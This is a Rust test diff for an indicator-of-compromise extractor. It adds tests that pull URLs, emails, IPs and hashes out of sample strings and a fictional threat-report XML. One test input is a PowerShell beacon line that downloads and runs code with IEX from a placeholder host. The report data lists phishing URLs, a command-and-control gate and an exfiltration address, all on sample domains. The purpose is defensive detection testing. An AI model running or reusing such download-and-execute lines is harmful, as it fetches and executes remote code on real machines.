@@ -230,6 +230,20 @@ fn percent_encoded_urls_inside_urls() {
 
 #[test]
 fn fixes_to_msticpy() {
+    // A URL in quotes ends at the closing quote (the demo's beacon loop).
+    let urls = |t: &str| -> Vec<String> {
+        extract_iocs(t, &IocOptions { types: Some(vec!["url".into()]), ..Default::default() })
+            .unwrap()
+            .into_iter()
+            .map(|i| i.observable)
+            .collect()
+    };
+    assert_eq!(
+        urls("try{IEX $w.DownloadString('https://cdn.example.com/api/beacon')}catch{};Start-Sleep -s 600"),
+        ["https://cdn.example.com/api/beacon"]
+    );
+    assert_eq!(urls(r#"iwr "http://a.example.com/x?q='1'&b=2" -o b"#), ["http://a.example.com/x?q='1'&b=2"]);
+    assert_eq!(urls("see http://a.example.com/it's-here"), ["http://a.example.com/it's-here"]);
     // IPv4: octets and whole tokens.
     assert!(
         found("1.2.3.4.5 v1.2.3.4 10.0.0.300 1.2.3.4a a_1.2.3.4 1.287.0.0 WindowsAzureNetAgent_1.0.0.139").is_empty()
@@ -523,4 +537,75 @@ fn null_cells_are_skipped() {
             ("dns".into(), "c.example.org".into(), 3),
         ]
     );
+}
+
+/// The text of an XML document as the Tour reads it: every text node, one per line (tags, comments and attributes
+/// dropped, the five entities decoded).
+fn xml_text(xml: &str) -> String {
+    let mut out = String::new();
+    let mut rest = xml;
+    while let Some(lt) = rest.find('<') {
+        out.push_str(&rest[..lt]);
+        out.push('\n');
+        let end = if rest[lt..].starts_with("<!--") { rest[lt..].find("-->").map(|e| e + 3) } else { rest[lt..].find('>').map(|e| e + 1) };
+        rest = &rest[lt + end.unwrap_or(rest.len() - lt)..];
+    }
+    out.push_str(rest);
+    out.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&apos;", "'").replace("&amp;", "&")
+}
+
+#[test]
+fn the_tours_threat_report() {
+    let xml = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/site/data/threat-report.xml")).unwrap();
+    let text = xml_text(&xml);
+    let iocs = extract_iocs(&text, &no_paths()).unwrap();
+    let of = |ty: &str| -> Vec<(&str, &str)> {
+        iocs.iter()
+            .filter(|i| i.ioc_type == ty)
+            .map(|i| (i.observable.as_str(), i.refanged.as_str()))
+            .collect()
+    };
+    assert_eq!(
+        of("url"),
+        [
+            ("hxxps://northwind-payroll[.]com/sso/login.aspx?ref=q3", "https://northwind-payroll.com/sso/login.aspx?ref=q3"),
+            (
+                "hxxps://t.wingtiptoys-mail[.]com/c?r=https%3A%2F%2Ffiles.fabrikam-share.net%2Fd%2FQ3_payroll.zip",
+                "https://t.wingtiptoys-mail.com/c?r=https%3A%2F%2Ffiles.fabrikam-share.net%2Fd%2FQ3_payroll.zip"
+            ),
+            ("https://files.fabrikam-share.net/d/Q3_payroll.zip", "https://files.fabrikam-share.net/d/Q3_payroll.zip"),
+            ("hxxp://198.51.100[.]23:8080/gate.php", "http://198.51.100.23:8080/gate.php"),
+            ("ftp://203.0.113.45/pub/rc.exe", "ftp://203.0.113.45/pub/rc.exe"),
+            ("hxxps[:]//files.fabrikam-share[.]net/upload", "https://files.fabrikam-share.net/upload"),
+            ("https://northwind-payroll.com/sso/login.aspx?ref=q3&lang=en", "https://northwind-payroll.com/sso/login.aspx?ref=q3&lang=en"),
+        ]
+    );
+    assert_eq!(
+        of("email"),
+        [
+            ("payroll-notice[at]northwind-payroll[.]com", "payroll-notice@northwind-payroll.com"),
+            ("hr-updates(at)northwind-payroll(.)com", "hr-updates@northwind-payroll.com"),
+            ("exfil.drop@tailspintoys-backup.com", "exfil.drop@tailspintoys-backup.com"),
+        ]
+    );
+    let refanged = |ty: &str| -> Vec<&str> {
+        let mut v: Vec<&str> = Vec::new();
+        for i in iocs.iter().filter(|i| i.ioc_type == ty) {
+            if !v.contains(&i.refanged.as_str()) {
+                v.push(&i.refanged);
+            }
+        }
+        v
+    };
+    assert_eq!(refanged("ipv4"), ["198.51.100.23", "203.0.113.45", "192.0.2.147"]);
+    assert_eq!(refanged("ipv6"), ["2001:db8:4f:1a::23"]);
+    assert_eq!(
+        refanged("dns"),
+        ["northwind-payroll.com", "t.wingtiptoys-mail.com", "files.fabrikam-share.net", "update.contoso-cdn.com", "tailspintoys-backup.com"]
+    );
+    assert_eq!(refanged("md5_hash"), ["5d41b6a3c2e8f0197d3a4b6c8e0f2a49"]);
+    assert_eq!(refanged("sha1_hash"), ["9f2c4e6a8b0d1f3e5a7c9e1b3d5f7a9c2e4b6d80"]);
+    assert_eq!(refanged("sha256_hash"), ["3b7e1f9a5c2d8e4f6a0b1c3d5e7f9a2b4c6d8e0f1a3b5c7d9e2f4a6b8c0d1e3f"]);
+    // Not indicators: the loader's name, a version number, the XML namespaces (attributes).
+    assert!(!iocs.iter().any(|i| i.refanged.contains("update.ps") || i.refanged.contains("4.1.7") || i.refanged.contains("mitre.org")));
 }
